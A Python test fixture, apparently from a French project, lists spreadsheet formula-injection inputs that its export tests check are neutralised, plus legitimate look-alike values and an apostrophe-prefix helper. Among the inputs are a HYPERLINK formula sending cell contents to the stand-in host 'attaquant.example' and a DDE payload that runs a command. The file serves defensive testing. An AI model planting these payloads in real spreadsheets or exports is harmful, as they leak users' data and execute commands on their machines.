"""Hostile input shared by the tests: one list of spreadsheet formulas (issue 15).

Every export format and path is checked against `FORMULES` (tests/test_securite_exports.py):
each value, typed as a title, a company name or a contact, must come out neutralised.
"""

FORMULES = [
    '=HYPERLINK("http://attaquant.example/?d="&B2&C2;"Voir")',
    "=1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]

# Legitimate text that starts like a formula: it stays readable (« ' » prefix in CSV,
# unchanged text in XLSX).
LEGITIMES = ["+33 4 75 00 00 00", "-12,5 %"]

DANGEREUX = FORMULES + LEGITIMES


def neutralise(valeur: str) -> str:
    """What a CSV cell of `valeur` reads after neutralisation (OWASP apostrophe)."""
    return "'" + valeur
